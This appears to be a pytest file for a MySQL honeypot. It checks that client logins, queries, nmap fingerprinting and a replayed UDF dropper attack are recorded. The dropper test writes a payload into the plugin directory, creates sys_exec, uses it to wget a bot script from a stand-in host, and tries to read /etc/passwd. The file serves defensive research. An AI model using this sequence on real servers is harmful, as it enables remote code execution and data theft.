"""MySQL end to end: mariadb CLI, pymysql, mysql-connector, a UDF dropper, nmap."""

from __future__ import annotations

import hashlib
import socket
import subprocess
from decimal import Decimal

import mysql.connector
import pymysql
import pytest

from tests.conftest import only

PAYLOAD = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 16


def mariadb(port: int, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["mariadb", "--no-defaults", "-h", "127.0.0.1", "-P", str(port),
                           "-u", "cliuser", "-pclipass", "--ssl=0", *args],
                          capture_output=True, text=True, timeout=20)


def test_clients_commands_and_udf_dropper(honeypot_factory):
    hp = honeypot_factory(only({"mysql": {}}, persona={"preset": "debian-12"}))
    port = hp.port(3306)

    out = mariadb(port, "-e", "show databases; use shop; select sku from products "
                              "where id = 1; select database()")
    assert out.returncode == 0, out.stderr
    lines = out.stdout.split()
    assert "wordpress" in lines and "SKU-1007" in lines and lines[-1] == "shop"

    # pymysql: TLS (cleartext inside) and plain (RSA full auth)
    for ssl in (False, True):
        kw = {"ssl": {"check_hostname": False}} if ssl else {"ssl_disabled": True}
        c = pymysql.connect(host="127.0.0.1", port=port, user=f"py{int(ssl)}",
                            password=f"pypass{int(ssl)}", database="wordpress", **kw)
        with c.cursor() as cur:
            cur.execute("SELECT user_login FROM wp_users WHERE ID = %s", (1,))
            assert cur.fetchall() == (("admin",),)
            cur.execute("SELECT @@version, CURRENT_USER()")
            assert cur.fetchone() == ("8.0.40", f"py{int(ssl)}@%")
        assert (c.get_server_info(), bool(c._sock.__class__.__name__ == "SSLSocket")) == \
            ("8.0.40", ssl)
        c.close()

    # mysql-connector: both plugins, prepared statements, TLS on and off
    for plugin, ssl_off in (("mysql_native_password", True), ("caching_sha2_password", False)):
        c = mysql.connector.connect(host="127.0.0.1", port=port, user="conn",
                                    password=f"cp-{plugin[:5]}", auth_plugin=plugin,
                                    ssl_disabled=ssl_off)
        cur = c.cursor(prepared=True)
        cur.execute("SELECT id, name, price FROM shop.products WHERE id = ? AND name <> ?",
                    (2, "x"))
        (row,) = cur.fetchall()
        assert row[0] == 2 and row[2] == Decimal("39.50")  # decimal(10,2), as MySQL
        assert c.is_secure is (not ssl_off)
        c.close()

    # the UDF dropper's moves
    c = pymysql.connect(host="127.0.0.1", port=port, user="root", password="123456",
                        ssl_disabled=True)
    with c.cursor() as cur:
        cur.execute("SELECT @@plugin_dir")
        plugin_dir = cur.fetchone()[0]
        cur.execute(f"SELECT 0x{PAYLOAD.hex()} INTO DUMPFILE '{plugin_dir}lib_mysqludf_sys.so'")
        cur.execute("CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'")
        cur.execute("SELECT sys_exec('wget http://198.51.100.7/bot.sh -O /tmp/b')")
        with pytest.raises(pymysql.err.OperationalError) as exc:
            cur.execute("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE mysql.user")
        assert exc.value.args[0] == 3948
    c.close()
    with pytest.raises(pymysql.err.OperationalError) as perr:
        pymysql.connect(host="127.0.0.1", port=port, user="x", password="y",
                             database="nodb", ssl_disabled=True)
    assert perr.value.args[0] == 1049
    assert hp.stop() == 0

    md5 = hashlib.md5(PAYLOAD).hexdigest()
    assert (hp.state / "binaries" / md5).read_bytes() == PAYLOAD
    url = "mysql://127.0.0.1/usr/lib/mysql/plugin/lib_mysqludf_sys.so"
    assert hp.rows("SELECT download_url, download_md5_hash FROM downloads") == [(url, md5)]
    offers = [r[0] for r in hp.rows("SELECT offer_url FROM offers")]
    assert url in offers and "http://198.51.100.7/bot.sh" in offers
    logins = hp.rows("SELECT login_username, login_password FROM logins ORDER BY login")
    assert ("py0", "pypass0") in logins and ("py1", "pypass1") in logins
    assert ("conn", "cp-cachi") in logins and ("cliuser", "clipass") in logins
    assert ("root", "123456") in logins
    queries = [r[0] for r in hp.rows(
        "SELECT mysql_command_arg_data FROM mysql_commands c JOIN mysql_command_args a "
        "ON a.mysql_command = c.mysql_command WHERE c.mysql_command_cmd = 3")]
    assert "show databases" in queries and any("INTO DUMPFILE" in q for q in queries)
    executed = hp.rows("SELECT a.mysql_command_arg_data FROM mysql_commands c JOIN "
                       "mysql_command_args a ON a.mysql_command = c.mysql_command "
                       "WHERE c.mysql_command_cmd = 23")
    assert any("id = 2 AND name <> 'x'" in r[0] for r in executed)
    (count,), = hp.rows("SELECT count(*) FROM connections WHERE connection_protocol = 'mysqld'")
    assert count >= 6
    lines = hp.json_lines()
    root = [x for x in lines if {"username": "root", "password": "123456"} in
            x.get("credentials", [])]
    assert root and root[0]["connection"]["protocol"] == "mysqld"
    cmds = root[0]["mysql"]["commands"]
    assert {"cmd": 3, "args": ["SELECT @@plugin_dir"]} in cmds
    assert root[0]["mysql"]["udfs"][0]["soname"] == "lib_mysqludf_sys.so"
    assert url in root[0]["offers"]
    assert root[0]["downloads"][0]["md5"] == md5


def test_native_list_policy_exact_denial(honeypot_factory):
    hp = honeypot_factory(only({"mysql": {"auth_plugin": "mysql_native_password",
                                          "login": {"mode": "list",
                                                    "users": {"admin": "letmein"}}}},
                               persona={"preset": "debian-12"}))
    port = hp.port(3306)
    c = pymysql.connect(host="127.0.0.1", port=port, user="admin", password="letmein",
                        ssl_disabled=True)
    c.close()
    with pytest.raises(pymysql.err.OperationalError) as exc:
        pymysql.connect(host="127.0.0.1", port=port, user="admin", password="wrong",
                        ssl_disabled=True)
    assert exc.value.args == (1045, "Access denied for user 'admin'@'127.0.0.1' "
                                    "(using password: YES)")
    hp.stop()
    logins = hp.rows("SELECT login_username, login_password FROM logins ORDER BY login")
    assert logins == [("admin", "letmein"), ("admin", "")]


def _greeting(port: int) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        data = s.recv(4096)
    return data


def test_nmap_names_the_persona_version(honeypot_factory):
    hp = honeypot_factory(only({"mysql": {}}, persona={"preset": "windows-2008r2"}))
    port = hp.port(3306)
    out = subprocess.run(["nmap", "-Pn", "-n", "-sV", "--version-all", "-p", str(port),
                          "--script", "mysql-info", "127.0.0.1"],
                         capture_output=True, text=True, timeout=120).stdout
    assert f"{port}/tcp open  mysql   MySQL 5.5.62" in out, out
    assert "Version: 5.5.62" in out and "mysql_native_password" in out
    for word in ("honeypot", "dionaea", "muscipula", "python"):
        assert word not in out.lower()
    a, b = _greeting(port), _greeting(port)
    salt = lambda g: g[g.index(b"\0", 5) + 5:][:8]  # noqa: E731
    assert salt(a) != salt(b)
    tid = lambda g: int.from_bytes(g[g.index(b"\0", 5) + 1:][:4], "little")  # noqa: E731
    assert tid(b) == tid(a) + 1
